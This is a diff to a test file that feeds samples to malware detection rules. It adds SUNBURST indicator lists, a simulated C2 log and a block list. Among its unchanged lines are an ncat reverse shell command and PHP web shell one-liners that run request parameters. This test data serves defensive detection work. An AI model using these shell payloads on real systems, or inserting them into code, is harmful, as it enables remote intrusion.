@@ -348,6 +348,13 @@ def positives():
            b"ncat 192.0.2.10 4444 -e '/bin/sh'\n")
     yield ("preg_e.php", "IRK_WebShell_PHP_Request_Exec",
            b"<?php preg_replace('/.*/e', $_REQUEST['c'], ''); ?>\n")
+    # --- lists and uses: IOC list lines do not count, a use still does ---
+    yield ("ioc_list_and_log.txt", "IRK_SUNBURST_Stage2_C2_Domains", (
+        "avsvmcloud.com\t# from iocs/domains.txt\n5.252.177.25\n"
+        "gracious_truth.jpg\t# a file name\n"
+        "2020-06-13 query: x1.appsync.avsvmcloud.com A from 10.0.0.5\n"
+        "2020-06-13 deny tcp 10.0.0.5 -> 5.252.177.25:443\n"
+        "C:\\Windows\\Temp\\gracious_truth.jpg opened\n").encode())
     # --- issue 18: web shells ---------------------------------------------
     yield ("varfunc.php", "IRK_WebShell_PHP_Request_Exec",
            b"<?php $_GET['f']($_GET['c']); ?>\n")
@@ -467,6 +474,9 @@ def negatives():
     yield ("template.php", (
         "<?php $page = htmlspecialchars($_GET['p'] ?? 'home');\n"
         "exec('git rev-parse HEAD', $out);\n$stmt = $db->exec($sql); ?>\n").encode())
+    # an IOC or block list: bare values alone on their lines
+    yield ("blocklist.txt", b"# blocked\navsvmcloud.com\nzupertech.com\t# c2\n"
+           b"13.59.205.66\ngracious_truth.jpg\r\nfreescanonline.com")
     yield ("photo.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00"
            + bytes(range(256)) * 4 + b"\xff\xd9")
 
